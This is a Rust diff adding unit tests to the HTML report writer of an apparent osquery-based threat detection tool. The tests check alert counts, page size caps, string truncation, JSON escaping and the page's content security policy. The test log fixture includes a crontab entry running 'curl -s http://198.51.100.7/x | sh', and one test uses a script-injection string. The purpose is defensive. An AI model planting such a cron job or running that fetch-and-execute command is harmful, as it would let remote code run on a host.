@@ -754,3 +754,171 @@ pub fn write_page(out: &mut dyn Write, data: &PageData) -> io::Result<()> {
          <script>{SCRIPT}</script>\n</body>\n</html>\n"
     )
 }
+
+#[cfg(test)]
+mod tests {
+    use std::sync::Arc;
+
+    use tripline_core::decode::Origin;
+    use tripline_core::stage::{self, Detection, StageOptions};
+    use tripline_core::{Config, Detector, Parallelism, RuleSet};
+
+    use super::*;
+
+    /// `hosts` hosts, each logging `per_host` crontab rows that the suspicious-cron rule
+    /// fires on (one alert per host), and one line that is not JSON.
+    fn log(hosts: usize, per_host: usize) -> Vec<u8> {
+        let mut out = Vec::new();
+        for h in 0..hosts {
+            for r in 0..per_host {
+                let record = serde_json::json!({
+                    "name": "pack_tripline-common_crontab",
+                    "hostIdentifier": format!("host-{h:05}"),
+                    "unixTime": 1794883269 + r,
+                    "counter": 93,
+                    "columns": {"minute": "*", "hour": "*", "day_of_month": "*", "month": "*",
+                                "day_of_week": "*", "command": "curl -s http://198.51.100.7/x | sh",
+                                "path": "/var/spool/cron/crontabs/www"},
+                    "action": "added",
+                });
+                out.extend_from_slice(record.to_string().as_bytes());
+                out.push(b'\n');
+            }
+        }
+        out.extend_from_slice(b"{not json\n");
+        out
+    }
+
+    fn run(log: Vec<u8>, caps: &Caps) -> (PageData, Summary, String) {
+        let options = StageOptions {
+            parallelism: Parallelism::Inline,
+            ..StageOptions::default()
+        };
+        let mapper = Arc::new(Mapper::builtin().unwrap());
+        let detector = Detector::new(
+            RuleSet::builtin().unwrap(),
+            Some(Arc::clone(&mapper)),
+            Config::default(),
+        );
+        let mut detection = Detection::new(detector, Parallelism::Inline);
+        let mut tally = Tally::default();
+        let total = stage::parse(
+            io::Cursor::new(log),
+            Origin::path("test.ndjson"),
+            &options,
+            &mut tally,
+            Some(&mut detection),
+        )
+        .unwrap();
+        let report = detection.finish();
+        let meta = Meta::now(&[PathBuf::from("test.ndjson")], 1);
+        let data = PageData::build(
+            &tally,
+            &report,
+            &total,
+            &mapper,
+            Catalog::embedded(),
+            caps,
+            meta,
+        );
+        let mut page = Vec::new();
+        write_page(&mut page, &data).unwrap();
+        (data, total, String::from_utf8(page).unwrap())
+    }
+
+    #[test]
+    fn counts_add_up() {
+        let (data, total, _) = run(log(7, 3), &Caps::default());
+        assert_eq!((total.events, total.quarantined), (21, 1));
+        assert_eq!(
+            data.parse.records,
+            data.parse.decoded + data.parse.quarantined
+        );
+        let reasons: u64 = data.parse.quarantined_by_reason.values().sum();
+        assert_eq!(reasons, total.quarantined);
+        assert_eq!(data.totals.alerts, 7);
+        assert_eq!(data.alerts.len(), 7);
+        assert_eq!(data.hosts.len(), 7);
+        assert!(data
+            .hosts
+            .iter()
+            .all(|h| h.events == 3 && h.alert_count == 1));
+        assert_eq!(data.queries.len(), 1);
+        let q = &data.queries[0];
+        assert_eq!((q.events, q.hosts), (21, 7));
+        assert_eq!(q.tables, ["crontab"]);
+        // Every event of the query carries its techniques; every alert the rule's.
+        let cron = &data.techniques["T1053.003"];
+        assert_eq!((cron.observed, cron.alerts), (21, 7));
+        assert_eq!(cron.rules["osquery_suspicious_cron"], 7);
+        assert_eq!(q.techniques, ["T1053.003"]);
+        assert!(data.hosts.iter().all(|h| h.techniques["T1053.003"] == 3));
+        assert!(data.hosts.iter().all(|h| h.alerted.contains("T1053.003")));
+    }
+
+    #[test]
+    fn the_page_is_capped_and_does_not_grow_with_the_events() {
+        let caps = Caps {
+            alerts: 40,
+            hosts: 30,
+            ..Caps::default()
+        };
+        let (small, _, small_page) = run(log(100, 1), &caps);
+        assert_eq!((small.totals.alerts, small.alerts.len()), (100, 40));
+        assert_eq!((small.totals.hosts, small.hosts.len()), (100, 30));
+        // Embedded hosts list only embedded alerts.
+        assert!(small
+            .hosts
+            .iter()
+            .flat_map(|h| &h.alerts)
+            .all(|&i| i < small.alerts.len()));
+        // Ten times the hosts, alerts and events: the same page, give or take digits.
+        let (big, _, big_page) = run(log(1000, 2), &caps);
+        assert_eq!((big.totals.alerts, big.alerts.len()), (1000, 40));
+        assert_eq!(big.parse.events, 2000);
+        let (a, b) = (small_page.len() as f64, big_page.len() as f64);
+        assert!((b - a).abs() / a < 0.02, "{a} -> {b} bytes");
+    }
+
+    #[test]
+    fn long_strings_are_cut() {
+        assert_eq!(cap_str("abcdef", 3), "abc…");
+        assert_eq!(cap_str("abc", 3), "abc");
+        assert_eq!(cap_str("ééé", 2), "éé…");
+    }
+
+    #[test]
+    fn embedded_json_cannot_end_its_element() {
+        let evil = "</script><script>alert(1)</script><!-- & \u{2028}";
+        let json = script_json(&serde_json::json!({"host": evil})).unwrap();
+        assert!(!json.contains(['<', '>', '&']), "{json}");
+        let back: serde_json::Value = serde_json::from_str(&json).unwrap();
+        assert_eq!(back["host"], evil);
+    }
+
+    #[test]
+    fn the_policy_allows_exactly_the_inline_script_and_style() {
+        let (_, _, page) = run(log(1, 1), &Caps::default());
+        let csp = csp_hash(SCRIPT);
+        assert!(page.contains(&format!("script-src {csp};")), "{csp}");
+        assert!(page.contains(&format!("<script>{SCRIPT}</script>")));
+        assert!(page.contains(&format!("<style>{STYLE}</style>")));
+        assert!(page.contains("default-src 'none'"));
+        // Nothing to fetch: no external reference in the page (the SVG namespace is a
+        // name, not a request).
+        let script = SCRIPT.replace("\"http://www.w3.org/2000/svg\"", "");
+        for needle in [
+            "src=", "http://", "https://", "@import", "url(http", "fetch(",
+        ] {
+            assert!(
+                !STYLE.contains(needle) && !script.contains(needle),
+                "{needle}"
+            );
+        }
+        // A known value: SHA-256 of the empty string.
+        assert_eq!(
+            csp_hash(""),
+            "'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='"
+        );
+    }
+}
